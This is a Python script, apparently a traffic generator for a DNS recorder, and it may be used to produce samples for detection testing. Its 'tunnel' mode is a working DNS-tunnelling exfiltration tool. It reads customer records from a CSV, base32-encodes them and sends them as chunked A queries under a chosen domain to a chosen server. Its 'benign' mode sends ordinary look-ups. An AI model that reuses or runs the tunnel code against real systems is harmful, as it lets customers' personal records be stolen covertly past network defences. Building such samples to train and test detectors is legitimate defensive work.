#!/usr/bin/env python3
"""DNS client of the recorder (stdlib only): a tunnel that leaks customer records, and
ordinary look-ups.

  dnsq.py tunnel SERVER DOMAIN CSV FIRST_ID LAST_ID   send customers FIRST..LAST (CSV lines,
          base32, at most 3 labels of 60 characters per query) as A queries under DOMAIN
  dnsq.py benign SERVER NAME:TYPE...                  one query per argument (TYPE A|AAAA|MX|TXT)
Prints a JSON summary (queries sent, answered, records) on stdout.
"""
import base64
import csv
import io
import json
import random
import socket
import struct
import sys
import time

TYPES = {"A": 1, "NS": 2, "CNAME": 5, "MX": 15, "TXT": 16, "AAAA": 28}
rng = random.Random(7)


def query(sock, server, name, qtype):
    qid = rng.randrange(65536)
    msg = struct.pack("!HHHHHH", qid, 0x0100, 1, 0, 0, 0)
    for label in name.rstrip(".").split("."):
        msg += bytes([len(label)]) + label.encode("ascii")
    msg += b"\0" + struct.pack("!HH", TYPES[qtype], 1)
    tries = 0
    for _ in range(3):
        sock.sendto(msg, (server, 53))
        tries += 1
        try:
            while True:
                data, _ = sock.recvfrom(4096)
                if data[:2] == msg[:2]:
                    return data[3] & 0x0f, tries
        except socket.timeout:
            continue
    return None, tries


def main():
    mode, server = sys.argv[1], sys.argv[2]
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.settimeout(2.0)
    sent = answered = 0
    out = {}
    if mode == "tunnel":
        domain, path, first, last = sys.argv[3], sys.argv[4], int(sys.argv[5]), int(sys.argv[6])
        with open(path, encoding="utf-8", newline="") as f:
            lines = f.read().split("\n")[1:]   # lines[i] is customer id i+1
        session = "s%04x" % rng.randrange(65536)
        for cid in range(first, last + 1):
            payload = base64.b32encode(lines[cid - 1].encode("utf-8")).decode().rstrip("=").lower()
            parts = [payload[k:k + 180] for k in range(0, len(payload), 180)]
            for p, part in enumerate(parts):
                labels = [part[k:k + 60] for k in range(0, len(part), 60)]
                name = ".".join(labels + ["r%dp%dof%d" % (cid, p + 1, len(parts)), session, domain])
                rc, tries = query(sock, server, name, "A")
                sent += tries
                answered += rc is not None
                time.sleep(0.01)
        out = {"records": last - first + 1, "session": session}
    else:
        for arg in sys.argv[3:]:
            name, qtype = arg.rsplit(":", 1)
            rc, tries = query(sock, server, name, qtype)
            sent += tries
            answered += rc is not None
            time.sleep(0.05)
        out = {"records": 0}
    out.update({"queries": sent, "answered": answered})
    print(json.dumps(out))


if __name__ == "__main__":
    main()
